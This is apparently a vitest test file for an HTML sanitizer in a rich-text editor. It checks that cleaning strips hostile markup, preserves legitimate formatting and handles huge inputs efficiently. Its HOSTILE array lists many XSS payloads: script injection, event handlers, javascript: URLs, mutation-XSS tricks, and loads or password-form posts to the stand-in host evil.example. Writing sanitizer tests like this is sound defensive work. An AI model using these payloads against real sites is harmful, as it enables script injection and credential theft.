import { expect, test } from 'vitest';
import { formatted } from '#core/fields/rich-text/formatted.ts';
import { readMarkup } from '#core/fields/rich-text/read-markup.ts';
import { cleanForeign } from './foreign-markup.ts';

/** Where HTML, or something that browsers take for it, could run or load something. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/path" onclick="alert(1)">x</a>',
  '<a href="https://x.y" style="position:fixed;inset:0" onmouseover=alert(1)>x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x</body>',
  '<p id="__proto__" class="mantine-Modal-root" name="cookie">x</p>',
  '<ul data-type="taskList&quot; onclick=&quot;alert(1)"><li data-checked="true&quot; onclick=&quot;x">x</li></ul>',
  '<td colspan="1&quot; onclick=&quot;alert(1)">x</td>',
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p><<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p title="<img src=x onerror=alert(1)>">x',
  '<select><option><script>alert(1)</script></select>',
  '<plaintext><script>alert(1)</script>',
  '\u2028<script\u2028>alert(1)</script>',
  '<a\u0000 href="javascript:alert(1)">x</a>',
  '<x-element onclick=alert(1)>x</x-element>',
];

const UNKNOWN =
  /<(?!\/?(?:p|h[123]|pre|code|blockquote|ul|ol|li|table|tbody|tr|td|th|a|strong|em|u|s|br|hr)(?: (?:href="(?:https?:|mailto:|tel:)[^"<>]*"|data-type="taskList"|data-checked="(?:true|false)"|(?:col|row)span="\d+"))*>)/;

function expectClean(html: string): void {
  const clean = cleanForeign(html);
  expect(clean).not.toMatch(UNKNOWN);
  expect(clean === '' || readMarkup(clean) !== undefined).toBe(true);
  expect(cleanForeign(clean)).toBe(clean);
}

test('[COL-71] nothing hostile is left, alone, in each other, or in what formatted texts have', () => {
  for (const html of HOSTILE) {
    expectClean(html);
    expectClean(`<p>before</p>${html}<p>after</p>`);
    for (const [start, end] of [
      ['<strong>', '</strong>'],
      ['<ul><li>', '</li></ul>'],
      ['<table><tr><td>', '</td></tr></table>'],
      ['<pre>', '</pre>'],
      ['<svg>', '</svg>'],
      ['<a href="https://x.y">', '</a>'],
    ] as const)
      expectClean(start + html + end);
    for (const other of HOSTILE) expectClean(html + other);
  }
});

test('[COL-71] what people write elsewhere keeps what it means', () => {
  const pairs = [
    [
      '<b>a</b> <i>b</i>  <del>c</del>\n<ins>d</ins>',
      '<p><strong>a</strong> <em>b</em> <s>c</s> <u>d</u></p>',
    ],
    ['<h4>T</h4><div>one<div>two</div>three</div>', '<h3>T</h3><p>one</p><p>two</p><p>three</p>'],
    ['<p>a<br>b<br></p><p>&nbsp;</p>', '<p>a<br>b</p><p>\u00a0</p>'],
    [
      '<ol><li>a<li>b<ul><li>c</ul></ol>',
      '<ol><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ol>',
    ],
    ['<pre>a\n  b</pre>', '<pre><code>a\n  b</code></pre>'],
    [
      '<table><tr><th>h</th></tr><tr><td colspan=2>d</table>',
      '<table><tbody><tr><th><p>h</p></th></tr><tr><td colspan="2"><p>d</p></td></tr></tbody></table>',
    ],
    ['<a href="HTTPS://X.Y/?a&b">l</a>', '<p><a href="HTTPS://X.Y/?a&amp;b">l</a></p>'],
    ['<p>a &lt;b&gt; &amp; c</p>', '<p>a &lt;b&gt; &amp; c</p>'],
    ['<img alt="logo" src="https://x.y/z.png">text<img src="https://x.y/z.png">', '<p>logo text</p>'],
  ] as const;
  for (const [html, clean] of pairs) expect(cleanForeign(html)).toBe(clean);
});

test('[COL-71] documents without a bottom are their words', () => {
  for (const tag of ['div', 'b', 'table><td', 'blockquote', 'zz']) {
    expect(cleanForeign(`<${tag}>`.repeat(60_000) + 'words')).toBe('<p>words</p>');
  }
});

test('[COL-71] much of anything is read in the time of its length, and in as much memory', () => {
  const much = (piece: string) => piece.repeat(Math.ceil(200_000 / piece.length));
  for (const html of [
    `<pre>${much('\n')}x</pre>`,
    `<p>${much('<')}`,
    `<p>${much('<a')}`,
    `<p>${much('<!--')}`,
    `<a ${much('a=1 ')}>x</a>`,
    much('<p></p>'),
    much('<b><p></b>'),
    much('<table>x<b>y'),
    much('a<b></b>'),
    `<svg>${much('<p>')}`,
    `<p>e${much('\u0301<b></b>')}`,
  ])
    expect(readMarkup(cleanForeign(html))).toBeDefined();
  const lines = 'a<br>'.repeat(130_000);
  expect(cleanForeign(lines)).toBe(`<p>${lines.slice(0, -4)}</p>`);
  expect(formatted(`${' '.repeat(300_000)}x`)).toMatch(/x<\/p>$/);
});
